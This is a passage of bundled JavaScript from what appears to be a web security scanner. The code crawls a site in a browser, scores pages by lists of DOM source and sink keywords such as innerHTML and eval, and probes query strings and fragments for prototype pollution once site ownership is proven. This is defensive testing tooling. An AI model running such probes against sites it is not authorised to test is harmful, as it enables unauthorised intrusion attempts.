const key = `pollution ${address.origin}${address.pathname}${(0, route_shape.a5)(address.hash) ? address.hash : ""}`;
if (!this.#at.isNew(key)) return;
const inQuery = this.#at.mark();
const inFragment = this.#at.mark();
const hash = (0, route_shape.a5)(address.hash) ? address.hash : `#${pollutingPairs(inFragment)}`;
const shown = `${address.origin}${address.pathname}?${pollutingPairs(inQuery)}${hash}`;
address.hash = "";
await this.#at.load(page, shown, {
mode: "prove",
servedFrom: address.href
});
for (const [kind, name] of [ [ "query-string", inQuery ], [ "fragment", inFragment ] ]) {
if (await page.evaluate(`({})[${JSON.stringify(name)}]`) !== name) continue;
const payload = pollutingPairs(name);
const source = {
kind: kind,
name: ""
};
const sink = "Object.prototype";
this.#at.prove({
effect: "pollution",
page: url,
url: shown,
source: source,
sink: sink,
payload: payload,
sender: ""
});
}
}
}
const view_prover_KINDS = [ "links", "others" ];
class ViewProver {
#runner;
#examination;
#steps=new Map;
constructor(runner, examination) {
this.#runner = runner;
this.#examination = examination;
}
get hasMore() {
return this.#all.some(({state: state}) => state === "waiting");
}
get steps() {
const all = this.#all;
return {
total: all.length,
done: all.filter(({state: state}) => state === "done").length
};
}
get unproven() {
return [ ...this.#steps.values() ].filter(steps => steps.some(({state: state, isInPart: isInPart}) => state !== "done" || isInPart)).length;
}
get #all() {
return [ ...this.#steps.values() ].flat();
}
async prove(comparison) {
const pages = comparison.likeliestFirst();
for (const page of pages) if (!this.#steps.has(page)) this.#steps.set(page, view_prover_stepsOf(page));
const steps = pages.flatMap(page => this.#steps.get(page) ?? []).filter(({state: state}) => state === "waiting");
const links = new LinkProber(this.#examination, comparison);
const others = [ new PollutionProber(this.#examination, comparison), new MessageProber(this.#examination) ];
const run = {
links: (at, page) => links.probe(at, page),
others: async (at, page) => {
for (const other of others) if (this.#examination.hasTime()) await other.probe(at, page);
}
};
const work = view_prover_KINDS.flatMap(kind => steps.filter(step => step.kind === kind));
for (const step of work) {
await this.#carryOut(step, at => run[step.kind](at, step.page));
if (step.state === "waiting" && step.isRepeated && !this.#examination.wasCut) work.push(step);
}
}
async #carryOut(step, probe) {
const [runner, examination] = [ this.#runner, this.#examination ];
examination.begin();
let cutOffs = 0;
const run = async page => {
const before = page.cutOffs;
await probe(page);
cutOffs = page.cutOffs - before;
};
const isDone = !runner.isOver && examination.hasTime() && await runner.step(run) && !examination.wasCut;
const isLast = step.isRepeated || runner.isOver || isDone && step.page.isCutOff;
step.isInPart = cutOffs > 0;
if (isDone && (cutOffs === 0 || isLast)) step.state = "done"; else {
examination.forget();
if (examination.wasCut && !runner.isOver) return;
if (isLast) step.state = "lost";
step.isRepeated = true;
}
}
}
function view_prover_stepsOf(page) {
return view_prover_KINDS.map(kind => ({
page: page,
kind: kind,
isRepeated: false,
state: "waiting",
isInPart: false
}));
}
class BrowserRunner {
ends=[];
#context;
#path;
#startsMax;
#onAbort=() => this.#browser?.kill();
#browser=null;
#page=null;
#open=null;
constructor(context, path, startsMax) {
this.#context = context;
this.#path = path;
this.#startsMax = startsMax;
}
get isOver() {
return this.ends.length >= this.#startsMax;
}
start(gate, names, listener) {
this.#open = async () => {
this.#context.signal.addEventListener("abort", this.#onAbort);
await (this.#browser?.close());
this.#page = null;
const browser = await BrowserProcess.start({
path: this.#path
});
this.#browser = browser;
if (this.#context.signal.aborted) browser.kill();
const page = await BrowserPage.open(browser, gate, names, listener);
page.storage = () => this.#context.pageStorage();
this.#page = page;
return browser;
};
return this.#open();
}
async step(work) {
try {
if (this.#page === null) await (this.#open?.());
if (this.#page === null) return false;
await work(this.#page);
return true;
} catch (error) {
if (!(error instanceof CdpError || error instanceof BrowserStartError) || this.#context.signal.aborted) throw error;
this.ends.push(this.#reasonOf(error));
this.#page = null;
return false;
}
}
async rest() {
this.#context.signal.removeEventListener("abort", this.#onAbort);
await (this.#browser?.close());
this.#page = null;
}
#reasonOf(error) {
if (error instanceof BrowserStartError) return "it could not be started again";
if (this.#browser?.isTooLarge === true) return "its memory exceeded the maximum";
return error.code === "timeout" ? "a page did not respond" : "a page ended it";
}
}
const code_value_LENGTH_MAX = 512 * 1024;
const code_value_CODE_MAX = 3 * 1024 * 1024;
const READS = [ ...[ "location", "URLSearchParams", "searchParams", ".query", "useParams", ".params" ], ...[ "document.referrer", "window.name", "'message'", '"message"', "`message`", "onmessage" ] ];
const SINKS = [ ...[ "innerHTML", "outerHTML", "insertAdjacentHTML", "srcdoc", "dangerouslySetInnerHTML", "createContextualFragment" ], ...[ "setHTMLUnsafe", "document.write", "eval(", "Function(", "location.assign", "location.replace" ] ];
const SET_URL = /\.(?:src|href)\s{0,3}=[^=]|\blocation\s{0,3}=[^=]/;
function codeValue(code) {
const text = code.slice(0, code_value_LENGTH_MAX);
const hasOne = names => names.some(name => text.includes(name));
return (hasOne(READS) ? 1 : 0) + (hasOne(SINKS) || SET_URL.test(text) ? 2 : 0);
}
function pageValue(page) {
const inline = (0, html_document.lM)(page)?.scripts.flatMap(({url: url, text: text}) => url === null ? text : []) ?? [];
return codeValue(inline.join("\n"));
}
function readsAddress(code) {
return /\blocation\b|\bdocument\.(?:URL|documentURI|baseURI)\b/.test(code.slice(0, code_value_CODE_MAX));
}
function newPage(url) {
return {
url: url,
parameters: new Map,
handlers: new Set,
scripts: new Set,
staying: new Set,
document: "",
hasNewCode: false,
isCutOff: false,
missed: new Set,
varies: false
};
}
function readsUrl({url: url, parameters: parameters}) {
return parameters.size > 0 || url.includes("?");
}
class PageComparison {
#pages;
#exchanges;
#loads=new Map;
#paths=new Map;
constructor(pages, exchanges) {
this.#pages = pages;
this.#exchanges = exchanges;
for (const {url: url, scripts: scripts, document: document} of pages) {
for (const script of scripts) this.#loads.set(script, (this.#loads.get(script) ?? 0) + 1);
const paths = this.#paths.get(document) ?? new Set;
this.#paths.set(document, paths.add(new URL(url).pathname));
}
}
codeOf(page) {
const isShared = script => (this.#loads.get(script) ?? 0) * 2 > this.#pages.length;
const found = urls => urls.flatMap(url => this.#exchanges.get(url) ?? []);
const scripts = [ ...page.scripts ].sort();
const html = this.#exchanges.get((0, route_shape.f2)(page.url));
return {
own: [ ...html === undefined ? [] : [ html ], ...found(scripts.filter(script => !isShared(script))) ],
shared: found(scripts.filter(isShared))
};
}
isClientRoute({url: url, document: document}) {
return (0, route_shape.a5)(new URL(url).hash) || document !== "" && (this.#paths.get(document)?.size ?? 0) > 1;
}
readsAddress(page) {
return readsUrl(page) || page.hasNewCode && this.codeOf(page).own.some(({response: response}) => readsAddress(response.text));
}
likeliestFirst() {
const values = new Map(this.#pages.map(page => [ page, this.#valueOf(page) ]));
const value = page => values.get(page) ?? 0;
return [ ...this.#pages ].sort((one, other) => value(other) - value(one));
}
#valueOf(page) {
const [html, ...scripts] = this.codeOf(page).own;
const code = Math.max(html === undefined ? 0 : pageValue(html), ...scripts.map(({response: response}) => codeValue(response.text)));
return code + (readsUrl(page) ? 1 : 0) + (page.handlers.size > 0 ? 1 : 0);
}
}
const CUT_OFF_MAX = 2;
class KnownViews {
pages=[];
opened=new Set;
#again=new Set;
#lost=new Map;
add(url) {
const page = newPage(url);
this.pages.push(page);
return page;
}
noteResponse(url, reason) {
if (reason === null) this.#lost.delete(url); else this.#lost.set(url, reason);
}
isRepeated(url) {
return this.#again.has(url);
}
toRepeat() {
const isNew = url => !this.#again.has(url);
const cutOff = this.#cutOff.map(({url: url}) => url);
const hasHope = cutOff.filter(url => !isNew(url)).length < CUT_OFF_MAX;
return [ ...this.#lost.keys(), ...hasHope ? cutOff : [] ].find(isNew) ?? null;
}
repeat(url) {
this.#again.add(url);
return this.pages.find(one => one.url === url);
}
get failed() {
return this.pages.filter(({url: url}) => !this.opened.has(url)).length;
}
get #cutOff() {
return this.pages.filter(({url: url, isCutOff: isCutOff}) => isCutOff && this.opened.has(url));
}
reach({folded: folded, count: count, reason: unopened}) {
const cutOff = this.#cutOff.length;
const left = {};
const add = (reason, more) => {
left[reason] = (left[reason] ?? 0) + more;
};
add("folded", folded);
add("not_reached", this.failed);
add(unopened, count);
add("time", cutOff);
for (const reason of this.#lost.values()) add(reason, 1);
const leftOut = Object.entries(left).filter(([, more]) => more > 0);
const covered = this.opened.size - cutOff;
return {
known: covered + leftOut.reduce((sum, [, more]) => sum + more, 0),
covered: covered,
left_out: leftOut.map(([reason, more]) => ({
reason: reason,
count: more
}))
};
}
}
const CODE_IN_MARKUP = /[\s"'/]on[a-z]{3,24}\s{0,5}=|javascript:|\bsrcdoc\s{0,5}=/i;
const page_reader_TEXT_MAX = 512 * 1024;
const page_reader_NOTHING = {
needsBrowser: false,
lost: null,
exchange: null,
links: []
};
class PageReader {
#context;
#known=new Map;
constructor(context) {
this.#context = context;
}
async read(url, isAgain = false) {
const known = this.#known.get(url);
if (known !== undefined && !isAgain) return known;
const reading = await this.#request(url, isAgain);
this.#known.set(url, reading);
return reading;
}
async #request(url, isRetry) {
const attempt = await this.#context.fetch({
url: url,
isRetry: isRetry
});
if (!(0, http.m_)(attempt)) return {
...page_reader_NOTHING,
lost: reasonOf(attempt)
};
await this.#context.analyse(attempt);
const {status: status, headers: headers} = attempt.response;
if (status >= 300 && status < 400) {
const target = (0, document_base.O)((0, http.wx)(headers, "location") ?? "", url);
return {
...page_reader_NOTHING,
links: [ ...target === null ? [] : [ target ], ...page_reader_linksOf(attempt) ]
};
}
if ((0, html_document.lM)(attempt) === null) return page_reader_NOTHING;
const needsBrowser = hasScripts(attempt);
return {
...page_reader_NOTHING,
needsBrowser: needsBrowser,
exchange: needsBrowser || status === 200 ? attempt : null,
links: page_reader_linksOf(attempt)
};
}
}
function reasonOf({failure: failure}) {
if (failure.code === "blocked") return null;
if (failure.code === "budget") return "requests";
return failure.code === "timeout" ? "time" : "not_reached";
}
function page_reader_linksOf(exchange) {
const document = (0, html_document.lM)(exchange);
if (document === null) return [];
const forms = document.forms.filter(({method: method}) => method === "GET").map(({action: action}) => action);
return [ ...document.links.map(link => link.url), ...forms ];
}
function hasScripts(exchange) {
const document = (0, html_document.lM)(exchange);
if (document === null) return false;
const runs = document.scripts.some(({type: type}) => type === "" || type === "module" || /java|ecma|babel/.test(type));
return runs || CODE_IN_MARKUP.test(exchange.response.text.slice(0, page_reader_TEXT_MAX));
}
const route_queue_ROUTES_MAX = 5e3;
const SAME_SHAPE_MAX = 200;
const route_queue_NAMED_MAX = 200;
const route_queue_ALIKE = 3;
class RouteQueue {
#options;
#routes=new Set;
#waiting=[];
#named=[];
#shapes=new Map;
#nouns=new Set;
#opened=new Set;
#folded=0;
constructor(options) {
this.#options = options;
}
get routes() {
return [ ...this.#routes ];
}
get folded() {
return this.#folded;
}
get hasMore() {
return this.#waiting.length > 0 || this.#named.length > 0;
}
get size() {
return this.#waiting.length;
}
add(text) {
this.#add(text, false);
}
#add(text, isNamed) {
const {context: context, worth: worth} = this.#options;
const url = URL.parse(text);
if (url === null || url.origin !== context.target.origin || this.#routes.size >= route_queue_ROUTES_MAX) return;
if (!(0, link_policy.af)(url, context.options) || !isOfPlace(url, context.place)) return;
if (/^#(?:(?!!?\/)[^=]*|!?\/)$/.test(url.hash)) url.hash = "";
if (this.#routes.has(url.href)) return;
const shape = this.#shapeOf(url.href);
if (shape.listed >= SAME_SHAPE_MAX) return;
shape.listed += 1;
this.#routes.add(url.href);
(0, act_address.Mk)(url, this.#nouns);
if ((0, link_policy.zN)(url, "", this.#nouns) || (0, link_policy.YY)(url) || (0, 
link_policy.KJ)(url)) return;
const kind = isNamed ? "named" : shape.listed > 1 ? "sibling" : "new";
this.#waiting.push({
url: url.href,
kind: kind,
value: worth(url)
});
}
#shapeOf(url) {
const key = (0, route_shape.Z9)(new URL(url));
const shape = this.#shapes.get(key) ?? {
listed: 0,
alike: new Map
};
this.#shapes.set(key, shape);
return shape;
}
addLast(urls) {
this.#named.push(...urls.slice(0, route_queue_NAMED_MAX));
}
take(kind) {
if (kind === "named") this.#addNamed();
for (;;) {
const of = this.#waiting.filter(waiting => waiting.kind === kind);
const best = of.reduce((one, other) => one === null || other.value > one.value ? other : one, null);
if (best === null) return null;
this.#waiting.splice(this.#waiting.indexOf(best), 1);
if (kind !== "sibling" || !this.#isFolded(best.url)) {
this.#opened.add(new URL(best.url).pathname);
return best.url;
}
this.#folded += 1;
}
}
#isFolded(url) {
return [ ...this.#shapeOf(url).alike.values() ].some(count => count >= route_queue_ALIKE);
}
behaved(url, likeness) {
const {alike: alike} = this.#shapeOf(url);
alike.set(likeness, (alike.get(likeness) ?? 0) + 1);
}
#addNamed() {
for (const url of this.#named.splice(0)) if (!this.#opened.has(URL.parse(url)?.pathname ?? "")) this.#add(url, true);
}
}
function isOfPlace(url, place) {
if (place === undefined) return true;
const own = URL.parse(place.page ?? "");
const viewOf = ({pathname: pathname, hash: hash}) => pathname + ((0, route_shape.a5)(hash) ? hash.split("?", 1)[0] : "");
return own !== null && viewOf(own) === viewOf(url);
}
const pressed_actions_ALIKE = 3;
class PressedActions {
#seen=new Set;
#pressed=new Map;
#requested=new Set;
fresh(actions, shape) {
return actions.filter(({signature: signature}) => {
const key = `${shape} ${signature}`;
if (this.#seen.has(key) || !this.isWorth(signature)) return false;
this.#seen.add(key);
return true;
});
}
isWorth(signature) {
const {behaviours: behaviours = new Map, hasLeft: hasLeft = false} = this.#pressed.get(signature) ?? {};
return !hasLeft && Math.max(0, ...behaviours.values()) < pressed_actions_ALIKE;
}
pressed(signature, hasLeft, requested) {
const {behaviours: behaviours, hasLeft: hadLeft} = this.#pressed.get(signature) ?? {
behaviours: new Map,
hasLeft: false
};
const behaviour = requested.join(" ");
behaviours.set(behaviour, (behaviours.get(behaviour) ?? 0) + 1);
this.#pressed.set(signature, {
behaviours: behaviours,
hasLeft: hasLeft || hadLeft
});
const known = this.#requested.size;
for (const shape of requested) this.#requested.add(shape);
return this.#requested.size > known;
}
}
class ShownPage {
actions=new PressedActions;
#browsing;
#document=0;
#shown=[];
#elements=new Set;
#last=null;
#isUntouched=false;
constructor(browsing) {
this.#browsing = browsing;
}
get shown() {
return this.#shown;
}
opened() {
this.#isUntouched = true;
this.#document += 1;
this.#last = null;
this.#elements.clear();
}
shows(shown) {
this.#shown = shown;
}
noteElements() {
for (const {id: id} of this.#shown) this.#elements.add(id);
}
leadsTo(one) {
return this.#like(trailOf(one)[0] ?? one) !== undefined;
}
fresh({url: url}) {
return this.#fresh(url, null, () => false);
}
freshAfter(pressed, {url: url}, areNew) {
const isNew = ({id: id, signature: signature}) => areNew && !this.#elements.has(id) && this.actions.isWorth(signature);
const found = this.#fresh(url, pressed, isNew);
if (found.length > 0) this.#last = pressed;
return found;
}
#fresh(url, after, isNew) {
const fresh = new Set(this.actions.fresh(this.#shown, (0, route_shape.Z9)(new URL(url))));
const found = this.#shown.filter(action => fresh.has(action) || isNew(action));
this.noteElements();
return found.map(action => ({
action: action,
document: this.#document,
after: after
}));
}
async press(page, explored, next) {
const {url: url} = explored;
const cutOffs = page.cutOffs;
if (next.document === this.#document && await this.#pressElement(page, next.action)) return true;
await this.#browsing.look(page, url);
const isAt = next.after === null || trailOf(this.#last).includes(next.after);
if (isAt && page.cutOffs === cutOffs && await this.#pressElement(page, this.#like(next))) return true;
for (let tries = explored.varies ? 1 : 2; tries > 0 && page.cutOffs === cutOffs; tries -= 1) if (await this.#replay(page, url, trailOf(next))) return true;
explored.varies ||= page.cutOffs === cutOffs;
return false;
}
async #replay(page, url, trail) {
if (!this.#isUntouched) await this.#browsing.open(page, url);
for (const step of trail) {
if (step.after !== null) await this.#browsing.look(page, url);
this.noteElements();
this.#last = step.after;
if (!this.#browsing.hasRoom() || !await this.#pressElement(page, this.#like(step))) return false;
}
return true;
}
#like({action: action}) {
return this.#shown.find(({signature: signature}) => signature === action.signature);
}
async #pressElement(page, action) {
if (action === undefined) return false;
page.gate.stay();
this.#isUntouched = false;
const isDone = await page.call("act", action.id) === true;
await page.settle();
return isDone;
}
}
function trailOf(last) {
const trail = [];
for (let at = last; at !== null; at = at.after) trail.unshift(at);
return trail;
}
const sightings_LIST_MAX = 200;
class Sightings {
#origin;
#stored=new Map;
#sockets=new Map;
#foreignScripts=new Map;
#issues=new Map;
signIns=new Set;
constructor(origin) {
this.#origin = origin;
}
get stored() {
return sorted(this.#stored);
}
get sockets() {
return sorted(this.#sockets);
}
get foreignScripts() {
return sorted(this.#foreignScripts);
}
get issues() {
return sorted(this.#issues);
}
addSocket(url, page) {
if (this.#sockets.size < sightings_LIST_MAX) this.#sockets.set(url, {
url: url,
page: page
});
}
addIssue(issue) {
if (this.#issues.size < sightings_LIST_MAX) this.#issues.set(JSON.stringify({
...issue,
page: ""
}), issue);
}
noteOpened({isSignIn: isSignIn}, page) {
if (!isSignIn) this.signIns.delete(page); else if (this.signIns.size < sightings_LIST_MAX) this.signIns.add(page);
}
addSnapshot({stored: stored, scripts: scripts}, page, html) {
for (const value of stored) this.#addStored(value, page);
const written = new Set((html && (0, html_document.lM)(html)?.scripts.map(({url: url}) => url)) ?? []);
for (const script of scripts) this.#addScript(script, page, !written.has(script.url));
}
#addStored(value, page) {
const key = `${value.storage} ${value.name}`;
if (this.#stored.size < sightings_LIST_MAX && !this.#stored.has(key)) this.#stored.set(key, {
...value,
page: page
});
}
#addScript(script, page, isAdded) {
const {url: url} = script;
if (URL.parse(url)?.origin === this.#origin || !/^https?:/.test(url) || this.#foreignScripts.has(url)) return;
if (this.#foreignScripts.size < sightings_LIST_MAX) this.#foreignScripts.set(url, {
...script,
page: page,
isAdded: isAdded
});
}
}
function sorted(found) {
return [ ...found ].sort(([one], [other]) => one < other ? -1 : 1).map(([, value]) => value);
}
async function pictureOf(page, hasSecret) {
const before = await noteOf(page, hasSecret);
if (before !== null) return {
image: null,
note: before
};
const image = await page.screenshot();
const note = image === null ? null : await noteOf(page, hasSecret);
return {
image: note === null ? image : null,
note: note
};
}
async function noteOf(page, hasSecret) {
const text = await page.shownText();
if (text === null) return "no picture of the start page: its text could not be searched for secrets";
return hasSecret(text) ? "no picture of the start page: it shows a secret of this scan" : null;
}
const REST_MS = 3e3;
const explorer_WAVE = 6;
const ACTIONS_PER_TURN = 20;
const explorer_PARAMETERS_MAX = 60;
const WAITING_MAX = 2e3;
const REQUESTED_MAX = 100;
const REPORTED_MAX = 5e3;
class Explorer {
sightings;
queue;
picture={
image: null,
note: null
};
startView;
actionsLost=0;
#context;
#traffic;
#limits;
#reader;
#unpressed=[];
#views=new KnownViews;
#shown;
#start=null;
#current=null;
#log=null;
#reported=[];
#followed=0;
#heard=0;
#hashed=null;
#unlisted=0;
#unopened=[];
#cutOffs=0;
#stop=null;
constructor(context, traffic, limits) {
this.#context = context;
this.#traffic = traffic;
this.#limits = limits;
this.#reader = new PageReader(context);
this.queue = new RouteQueue({
context: context,
worth: limits.worth
});
this.#shown = new ShownPage({
open: (page, url) => this.#open(page, url),
look: (page, url) => this.#look(page, url),
hasRoom: () => this.#hasRoom()
});
this.sightings = new Sightings(context.target.origin);
}
get pages() {
return this.#views.pages;
}
get opened() {
return this.#views.opened;
}
get handlers() {
return this.pages.flatMap(({url: url, handlers: handlers}) => [ ...handlers ].sort().map(source => ({
source: source,
page: url
})));
}
get stoppedBy() {
return this.#stop === null ? null : STOPS[this.#stop];
}
onReport(report) {
const page = this.#current;
if (page === null) return;
if (report.kind === "route") this.onRoute(report.url);
if (report.kind === "socket") this.sightings.addSocket(report.url, page.url);
if (report.kind === "parameter" && report.name !== "" && page.parameters.size < explorer_PARAMETERS_MAX) page.parameters.set(report.name, report.inFragment ? "fragment" : "query");
if (report.kind === "message-handler" && page.handlers.size < 10) page.handlers.add(report.source);
}
onRoute(url) {
if (this.#reported.length < REPORTED_MAX) this.#reported.push(url);
}
get pagesLeft() {
return this.#unopened.length + this.queue.size + this.#views.failed;
}
get actionsLeft() {
return this.#unpressed.reduce((sum, {left: left}) => sum + (left?.length ?? 0), this.#unlisted);
}
get reach() {
const count = this.#unopened.length + this.queue.size;
return this.#views.reach({
folded: this.queue.folded,
count: count,
reason: this.#stop ?? "time"
});
}
hasMore() {
if (this.queue.size === 0 && this.#unpressed.length === 0) this.#addFromScripts();
const waiting = this.queue.hasMore || this.#unpressed.length + this.#unopened.length > 0;
return waiting || this.#views.toRepeat() !== null;
}
hasNext() {
return this.hasMore() && this.#hasRoom();
}
resume() {
this.#stop = null;
}
#hasRoom() {
const stop = this.#limits.time.exploreStop();
if (stop !== null) this.#stop = stop;
return stop === null && !this.#context.signal.aborted;
}
#addFromScripts() {
const base = this.#hashed ?? this.#context.target.startUrl;
for (const path of routesOfScripts(this.#traffic.exchanges.values())) this.queue.add((0, 
route_shape.zo)(path, base) ?? "");
}
async #repeat(page, url) {
const known = this.#views.repeat(url);
if (known === undefined) return this.#visit(page, url);
known.isCutOff = false;
try {
await this.#explore(page, {
page: known,
left: null
});
} catch (error) {
known.isCutOff = true;
throw error;
}
}
async next(page) {
const url = this.queue.take("new") ?? this.#unopened.shift();
if (url !== undefined) return this.#visit(page, url);
const left = this.#unpressed.shift();
if (left !== undefined) return this.#explore(page, left);
this.#addFromScripts();
const other = this.queue.take("new") ?? this.queue.take("sibling") ?? this.queue.take("named");
if (other !== null) return this.#visit(page, other);
const again = this.#views.toRepeat();
if (again !== null) await this.#repeat(page, again);
}
async #visit(page, url) {
const address = (0, route_shape.f2)(url);
const isStart = address === (0, route_shape.f2)(this.#context.target.startUrl);
const reading = await this.#reader.read(address, this.#views.isRepeated(url));
this.#noteReading(url, reading);
if (isStart) this.#views.noteResponse(url, null); else if (reading.lost !== null) return; else if (!reading.needsBrowser) return this.queue.behaved(url, "no scripts");
await this.#explore(page, {
page: this.#views.add(url),
left: null
});
}
#noteReading(url, {lost: lost, exchange: exchange, links: links}) {
this.#views.noteResponse(url, lost);
if (exchange !== null) this.#traffic.keep(exchange);
for (const link of links) this.queue.add(link);
}
async #explore(page, {page: explored, left: left}) {
this.#current = explored;
let known;
let place;
try {
known = await this.#openFor(page, explored, left ?? [ ...explored.missed ]);
place = await this.#place(page);
} catch (error) {
this.#unpressed.push({
page: explored,
left: left
});
throw error;
}
this.#views.opened.add(explored.url);
if (left === null && !explored.isCutOff) this.queue.behaved(explored.url, likenessOf(explored, this.#shown.shown));
if (explored.isCutOff && this.#views.isRepeated(explored.url)) return;
const fresh = left === null ? this.#shown.fresh(explored) : [];
await this.#press(page, explored, [ ...known, ...fresh ], place);
}
async #openFor(page, explored, known) {
const wanted = known.filter(({action: action}) => this.#shown.actions.isWorth(action.signature));
const isShown = one => this.#shown.leadsTo(one);
await this.#open(page, explored.url);
if (!wanted.every(isShown) && !explored.varies) await this.#open(page, explored.url);
const lost = wanted.filter(one => !isShown(one));
for (const one of known) explored.missed.delete(one);
if (page.cutOffs > this.#cutOffs) for (const one of lost) explored.missed.add(one); else explored.varies ||= lost.length > 0;
return wanted.filter(isShown);
}
async #open(page, url) {
this.#cutOffs = page.cutOffs;
this.#log = await page.load(url, {
mode: "crawl",
isAgain: this.#views.isRepeated(url)
});
this.#followed = 0;
if (this.opened.size === 0) this.picture = await pictureOf(page, text => this.#context.hasSecret(text));
this.#shown.opened();
const seen = await this.#look(page, url);
if (seen !== null) this.sightings.noteOpened(seen, url);
this.#shown.noteElements();
}
async readRest() {
const end = performance.now() + REST_MS;
while (performance.now() < end && !this.#context.signal.aborted && this.#limits.time.hasRequests()) {
const wave = this.#takeWave();
if (wave.length === 0) return;
const readings = await Promise.all(wave.map(url => this.#reader.read((0, route_shape.f2)(url))));
for (const [at, reading] of readings.entries()) {
const url = wave[at] ?? "";
this.#noteReading(url, reading);
if (reading.needsBrowser) this.#unopened.push(url);
}
}
}
#takeWave() {
const wave = [];
while (wave.length < explorer_WAVE) {
const url = this.queue.take("new");
if (url === null) break;
wave.push(url);
}
return wave;
}
async #press(page, explored, found, at) {
const waiting = [ ...found ];
const kinds = new Set;
let place = at;
for (let pressed = 0; waiting.length > 0; ) {
const isTurnOver = pressed >= ACTIONS_PER_TURN && (this.queue.hasMore || this.#unpressed.length > 0);
if (isTurnOver || !this.#hasRoom()) break;
const index = waiting.findIndex(one => !kinds.has(kindOf(one)));
const [next] = waiting.splice(Math.max(0, index), 1);
if (next === undefined || !this.#shown.actions.isWorth(next.action.signature)) continue;
kinds.add(kindOf(next));
pressed += 1;
try {
place = await this.#act(page, explored, next, place, waiting);
this.#unlisted += waiting.splice(WAITING_MAX).length;
} catch (error) {
this.actionsLost += 1;
if (waiting.length > 0) this.#unpressed.push({
page: explored,
left: waiting
});
throw error;
}
}
if (waiting.length > 0) this.#unpressed.push({
page: explored,
left: waiting
});
}
async #act(page, explored, next, place, waiting) {
const {url: url} = explored;
const {signature: signature} = next.action;
const cutOffs = page.cutOffs;
const isDone = await this.#shown.press(page, explored, next);
const [followed, heard] = [ this.#followed, this.#heard ];
const now = (await this.#look(page, url))?.url ?? "";
const isCutOff = page.cutOffs > cutOffs;
const isThere = now === place;
let isNew = false;
if (isCutOff) explored.missed.add(next); else if (isDone) isNew = this.#shown.actions.pressed(signature, !isThere || this.#followed > followed, this.#requested(heard));
if (isThere && isDone) {
explored.staying.add(signature);
waiting.unshift(...this.#shown.freshAfter(next, explored, isNew));
}
if (isThere && (isDone || !isCutOff)) return place;
this.queue.add(now);
const known = await this.#openFor(page, explored, waiting);
waiting.splice(0, waiting.length, ...known, ...this.#shown.fresh(explored));
return this.#place(page);
}
#requested(heard) {
const shapes = (this.#log?.requests ?? []).slice(heard).map(url => digest((0, url_shape.UD)(new URL(url))));
return [ ...new Set(shapes) ].sort().slice(0, REQUESTED_MAX);
}
async #place(page) {
return String(await page.evaluate("location.href"));
}
async #look(page, url) {
const seen = await page.snapshot();
this.#shown.shows(seen?.actions ?? []);
this.#noteVisit(page);
if (seen !== null) this.#noteSnapshot(seen, url);
for (const reported of this.#reported.splice(0).sort()) this.queue.add(reported);
return seen;
}
#noteVisit(page) {
const {navigations: navigations = [], requests: requests = [], hasNewCode: hasNewCode = false, document: document = ""} = this.#log ?? {};
for (const noted of navigations.slice(this.#followed)) this.onRoute(noted);
this.#followed = navigations.length;
this.#heard = requests.length;
if (this.#current === null) return;
for (const request of requests) if (this.#traffic.exchanges.has(request)) this.#current.scripts.add(request);
this.#current.document = document;
this.#current.hasNewCode ||= hasNewCode;
this.#current.isCutOff ||= page.cutOffs > this.#cutOffs;
}
#noteSnapshot(seen, url) {
this.queue.add(seen.url);
if ((0, route_shape.a5)(URL.parse(seen.url)?.hash ?? "")) this.#hashed ??= seen.url;
for (const link of seen.links) this.queue.add(link);
for (const path of seen.routes) this.queue.add((0, route_shape.zo)(path, seen.url) ?? "");
this.#start ??= url;
if (url === this.#start && (this.startView === undefined || this.startView?.isBlank)) this.startView = seen.shown;
this.sightings.addSnapshot(seen, url, this.#traffic.exchanges.get((0, route_shape.f2)(url)));
}
}
function kindOf({action: action, after: after}) {
return JSON.stringify([ after?.document, after?.action.id, action.signature.replace(/\d+/g, "0") ]);
}
function likenessOf({scripts: scripts, handlers: handlers, hasNewCode: hasNewCode}, actions) {
const kinds = [ ...new Set(actions.map(({signature: signature}) => signature.split("|", 1)[0] ?? "")) ].sort();
const code = [ ...scripts ].sort();
const parts = JSON.stringify([ kinds, code, [ ...handlers ].sort(), hasNewCode && code.length === 0 ]);
return digest(parts);
}
function digest(text) {
return (0, external_node_crypto_.createHash)("sha256").update(text).digest("base64");
}
const OVER = "the browser ended";
class Browsing {
explorer;
time;
#context;
#gate;
#runner;
#examination;
#prover;
#names;
#started=null;
constructor(context, {browserPath: browserPath, foreign: foreign, crawled: crawled}) {
this.#context = context;
this.time = new BrowserTime(context);
this.#runner = new BrowserRunner(context, browserPath, STARTS_MAX);
this.#gate = new RequestGate({
context: context,
hasRoom: () => this.time.hasRequests(),
foreign: foreign
});
const values = new Map(crawled.map(page => [ page.request.url, pageValue(page) ]));
this.explorer = new Explorer(context, this.#gate.traffic, {
time: this.time,
worth: url => (values.get((0, route_shape.f2)(url.href)) ?? 0) + (/[?=]/.test(url.search + url.hash) ? 1 : 0)
});
this.#names = {
binding: `b${context.token(10)}`,
api: `a${context.token(10)}`,
proof: `p${context.token(8)}`,
word: context.token(8)
};
this.#examination = new Examination(context, this.#names, this.time);
this.#prover = new ViewProver(this.#runner, this.#examination);
}
get hasMore() {
return !this.#runner.isOver && (this.explorer.hasMore() || this.#prover.hasMore);
}
async work() {
const {explorer: explorer, time: time} = this;
try {
this.#started ??= await this.#runner.start(this.#gate, this.#names, this.#listener());
do {
time.beginTurn(this.#context.ownershipProven ? undefined : 1);
explorer.resume();
while (!this.#runner.isOver && explorer.hasNext()) await this.#runner.step(at => explorer.next(at));
await explorer.readRest();
if (this.#context.ownershipProven) await this.#prover.prove(new PageComparison(explorer.pages, this.#gate.traffic.exchanges));
} while (this.hasMore && time.hasTurn());
} finally {
await this.#runner.rest();
}
}
seen() {
const {explorer: explorer} = this;
const {traffic: traffic} = this.#gate;
const {product: product, sandboxed: sandboxed} = this.#started ?? {
product: "",
sandboxed: false
};
const progress = this.#progress();
return {
product: product,
sandboxed: sandboxed,
screenshot: explorer.picture.image,
screenshotNote: explorer.picture.note,
pages: explorer.pages.map(({url: url}) => url),
routes: explorer.queue.routes,
reach: explorer.reach,
exchanges: [ ...traffic.exchanges ].sort(([one], [other]) => one < other ? -1 : 1).map(([, found]) => found),
endpoints: traffic.endpoints,
withheld: traffic.withheld,
foreignScripts: explorer.sightings.foreignScripts,
startView: explorer.startView ?? null,
signIns: [ ...explorer.sightings.signIns ].sort(),
sockets: explorer.sightings.sockets,
stored: explorer.sightings.stored,
handlers: explorer.handlers,
issues: explorer.sightings.issues,
proofs: this.#examination.proofs,
isProbed: this.#context.ownershipProven,
limits: browserLimits(progress),
incomplete: incompleteReason(progress)
};
